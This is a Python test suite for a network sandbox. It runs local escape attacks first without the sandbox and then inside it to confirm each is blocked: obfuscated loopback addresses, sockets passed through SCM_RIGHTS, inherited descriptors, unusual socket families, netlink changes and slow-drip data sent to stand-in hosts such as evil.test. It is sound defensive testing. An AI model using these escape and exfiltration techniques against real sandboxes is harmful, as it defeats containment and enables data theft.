#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Attacks that go by what is on the host itself: its loopback, its sockets, descriptors, other families, its network.

The witnesses are listeners on the supervisor's side and the capture; each attack works without cordon first.
"""

import array
import json
import pathlib
import shutil
import socket
import sys
import threading
import unittest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))

import world as worlds  # noqa: E402

if __name__ == "__main__":
    worlds.enter()

import network_testing  # noqa: E402
import zone  # noqa: E402
from cordon_testing import wait_for  # noqa: E402
from network_testing import BUILD, SOURCE, NetworkTest, requires_network, tcp  # noqa: E402

tearDownModule = network_testing.end_of_world
ALIVE = "; curl -sS -m 30 http://good.test/hello?alive"
ALLOWED = ("good.test",)
# Whose sockets may be used is a rule of the family that ships.
HOST_SOCKET = [r for r in json.loads((SOURCE / "policies/exfiltration.json").read_text())["rules"] if r["id"] == "ex.host-socket"]


class Witness:
    """Takes connections on the supervisor's side and counts them; may hand a socket over to who comes."""

    def __init__(self, listener, gift=None):
        self.listener, self.gift, self.came = listener, gift, []
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while True:
            try:
                connection, _ = self.listener.accept()
            except OSError:
                return
            with connection:
                self.came.append(connection.getsockname())
                if self.gift:
                    connection.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [self.gift.fileno()]))])
                else:
                    connection.settimeout(20)
                    try:
                        connection.sendall(b"the host's\n")
                        connection.recv(100)
                    except OSError:
                        pass

    def end(self):
        self.listener.shutdown(socket.SHUT_RDWR)
        self.listener.close()
        self.thread.join()


@requires_network
class LocalAttacks(NetworkTest):
    def setUp(self):
        super().setUp()
        shutil.copy(BUILD / "tests/net_attacks", self.work / "net_attacks")

    def witness(self, family, address, gift=None):
        listener = socket.socket(family, socket.SOCK_STREAM)
        listener.bind(address)
        listener.listen()
        found = Witness(listener, gift)
        self.addCleanup(found.end)
        return found

    def alive(self, script, **kw):
        self.world.quiet()
        done = self.inside(script + ALIVE, **{"allow": ALLOWED, **kw})
        self.assertTrue(done.stdout.endswith("hello from good.test\n"), done)
        return done

    def assert_good_only(self):
        self.assert_only(self.world.crossed(), tcp((zone.GOOD, zone.GOOD6), 80), ("good.test", *self.more_names))

    more_names = ()

    def test_services_of_the_host(self):
        """Its loopback, its own addresses, and names for them: in no spelling, allowed or not."""
        witness = self.witness(socket.AF_INET6, ("::", 0))  # and v4, as mapped addresses
        port = witness.listener.getsockname()[1]
        names = ("loopback.test", "host.test", "any.test", "mapped.test", zone.HOST, zone.HOST6)
        spelled = ["127.0.0.1", "127.1.2.3", "[::1]", "0.0.0.0", "[::]", "0x7f000001", "2130706433", "0177.0.0.1", zone.HOST,
                   f"[{zone.HOST6}]", f"[::ffff:{zone.HOST}]", "[::ffff:127.0.0.1]", "localhost", *names[:4]]
        script = "for h in {}; do curl -sS -g -m 20 --http0.9 http://$h:%d/; done" % port
        script = script.format(" ".join(f"'{h}'" for h in spelled))
        self.outside(script)
        self.assertGreaterEqual(len(witness.came), len(spelled) - 1, witness.came)  # mapped.test may choose the other address
        witness.came.clear()
        self.world.quiet()
        self.more_names = names
        for allow in (ALLOWED, (*ALLOWED, *names)):
            done = self.alive(script, allow=allow)
            self.assertNotIn("the host's", done.stdout)
            self.assertEqual(witness.came, [])
            self.assert_good_only()

    def test_abstract_socket(self):
        name = f"\0{self.dir.name}"
        witness = self.witness(socket.AF_UNIX, name)
        script = f"./net_attacks passed @{name[1:]}"
        self.outside(script)
        self.assertEqual(len(witness.came), 1)
        self.alive(script)
        self.assertEqual(len(witness.came), 1)
        self.assert_good_only()

    def test_passed_socket(self):
        """A socket of the host in a shared folder hands over a connection of the host's network."""
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            with self.subTest(kind=kind.name), socket.socket(socket.AF_INET, kind) as gift:
                gift.connect((zone.EVIL, zone.ECHO))
                path = self.work / f"giver-{kind.name}"
                witness = self.witness(socket.AF_UNIX, str(path), gift)
                path.chmod(0o777)
                script = f"./net_attacks passed {path}"
                self.world.quiet()
                self.outside(script)
                self.assertTrue([p for p in self.world.crossed() if p.to == zone.EVIL and p.payload.startswith(b"attack")])
                self.assertEqual(len(witness.came), 1)
                done = self.alive(script, mode="live", rules=HOST_SOCKET, lists={"shared_sockets": []})
                self.assertEqual([p for p in self.world.crossed() if p.payload.startswith(b"attack")], [], done)

    def test_inherited_descriptors(self):
        script = "./net_attacks inherited"
        with socket.create_connection((zone.EVIL, zone.ECHO)) as held:
            self.world.quiet()
            self.outside(script, pass_fds=(held.fileno(),))
            self.assertTrue([p for p in self.world.crossed() if p.payload.startswith(b"attack")])
            self.alive(script, pass_fds=(held.fileno(),))
            self.assertEqual([p for p in self.world.crossed() if p.payload.startswith(b"attack")], [])

    def test_other_families(self):
        """What no capture shows, since it never is on this link: there is no such socket to begin with."""
        families = {"vsock": (40, 1, 0), "alg": (38, 5, 0), "packet": (17, 3, 0), "xdp": (44, 3, 0), "bluetooth": (31, 3, 0),
                    "tipc": (30, 4, 0), "rds": (21, 5, 0), "can": (29, 3, 1), "key": (15, 3, 2), "netlink-netfilter": (16, 3, 12),
                    "netlink-audit": (16, 3, 9), "netlink-generic": (16, 3, 16), "netlink-uevent": (16, 2, 15), "raw": (2, 3, 1),
                    "raw-any": (2, 3, 255), "raw6": (10, 3, 58), "qipcrtr": (42, 2, 0), "smc": (43, 1, 0), "vsock-dgram": (40, 2, 0)}
        tries = "; ".join(f"./net_attacks family {f} {t} {p} >/dev/null && echo {name}" for name, (f, t, p) in families.items())
        # Outside with all rights: there have to be some of them.
        outside = set(self.outside(tries + "; true", prefix=[]).stdout.split())
        self.assertGreaterEqual(outside, {"packet", "raw", "netlink-generic"})
        self.assertEqual(self.alive(tries).stdout, "hello from good.test\n")
        self.assert_good_only()

    def test_changes_to_the_network(self):
        """The session cannot give its interface an address, by which it would be local no more than it is."""
        script = f"./net_attacks netlink {zone.SILENT}; echo status $?"
        self.addCleanup(worlds.ip, f"addr del {zone.SILENT}/32 dev lo")
        self.assertIn("status 0", self.outside(script, prefix=[]).stdout)
        self.assertIn("status 1", self.alive(script).stdout)

    def test_listeners_inside_are_not_reached(self):
        """Who listens inside takes the place of nobody: what is allowed still leads to the true host."""
        script = f"""/usr/bin/python3 -c '
import socket, threading, time
def fake(family, address):
    s = socket.socket(family, socket.SOCK_STREAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    try: s.bind((address, 80)); s.listen()
    except OSError as e: return print(e)
    while True: s.accept()[0].sendall(b"HTTP/1.0 200 OK\\r\\n\\r\\nfake\\n")
for f, a in ((2, "0.0.0.0"), (10, "::"), (2, "{zone.GOOD}")): threading.Thread(target=fake, args=(f, a), daemon=True).start()
time.sleep(1)' & sleep 0.5; curl -sS -m 30 http://good.test/hello; curl -sS -m 30 http://{zone.GOOD}/hello; wait; echo"""
        done = self.alive(script, allow=("good.test", zone.GOOD))
        print(f"({done.stdout!r}) ", end="", file=sys.stderr)
        self.assert_good_only()

    def test_nothing_crosses_without_a_command(self):
        """A session that asks for nothing sends nothing, and with --net=none nothing at all."""
        self.world.quiet()
        self.assertEqual(self.inside("true", allow=("good.test", "evil.test", zone.EVIL)).returncode, 0)
        self.assertEqual(self.world.crossed(), [])
        script = f"getent hosts good.test; curl -sS -m 5 http://good.test/hello http://{zone.GOOD}/hello; ./net_attacks udp-sendto {zone.EVIL} 53"
        done = self.run_in("bash", "-c", script, options=["--net=none"])
        self.assertNotIn("hello", done.stdout.decode(), done)
        self.assertEqual(self.world.crossed(), [])
        self.assertEqual(self.world.seen(), [])

    def test_record_tells_what_left(self):
        """The record and the servers agree on what was let through, and what was refused stands in it, too."""
        done = self.alive(f"./net_attacks tcp {zone.EVIL} {zone.ECHO}; curl -sS -m 20 http://evil.test/")
        self.assertEqual(self.verified()[0], 0, done)
        connects = self.events("net.connect")
        by_host = {(e["fields"].get("host"), e.get("verdict")) for e in connects}
        self.assertIn(("evil.test", "deny"), by_host)
        self.assertIn((zone.EVIL, "deny"), by_host)
        self.assertIn("good.test", {host for host, verdict in by_host if verdict == "allow"})
        self.assertTrue(wait_for(lambda: self.world.seen("http")))

    def test_slow_drip_under_a_budget(self):
        """A little at a time, by one connection or by many, is as much in the end: the budget is of bytes."""
        drip = """/usr/bin/python3 -c '
import socket, sys, time
try:
    s = socket.create_connection(("lab.test", 7003))
    for i in range(2000):
        s.sendall(b"x" * 100); time.sleep(0.0005)
        if %d and i %% %d == %d - 1:
            s.close(); s = socket.create_connection(("lab.test", 7003))
except OSError as e: print(e)'; """
        budget = {"id": "t.bytes", "category": "test", "severity": "low", "on": ["net.connect"], "when": "!action.loopback",
                  "budget": {"of": "bytes_out", "per": "session", "limit": 20000}, "verdict": "deny", "because": "Too much.",
                  "match": [{"action": {"kind": "net.connect", "host": "lab.test"},
                             "before": [{"action": {"kind": "net.connect", "host": "lab.test"}, "bytes_out": 30000}]}],
                  "not_match": [{"action": {"kind": "net.connect", "host": "lab.test"}}]}
        for name, every in (("one", 0), ("many", 40)):
            script = drip % (every, every or 1, every or 1)
            sent = []
            for run in (self.outside, lambda s: self.inside(s, allow=("good.test", "lab.test"), rules=[budget])):
                self.world.quiet()
                self.last = run(script)
                sent.append(sum(p.size for p in self.world.crossed() if p.outward() and p.port == zone.SINK))
            print(f"({name}: {sent[0]} bytes outside, {sent[1]} inside) ", end="", file=sys.stderr)
            self.assertGreaterEqual(sent[0], 200000)
            self.assertLess(sent[1], 100000, self.last)
            self.assertGreaterEqual(sent[1], 100, self.last)


if __name__ == "__main__":
    unittest.main(verbosity=2)
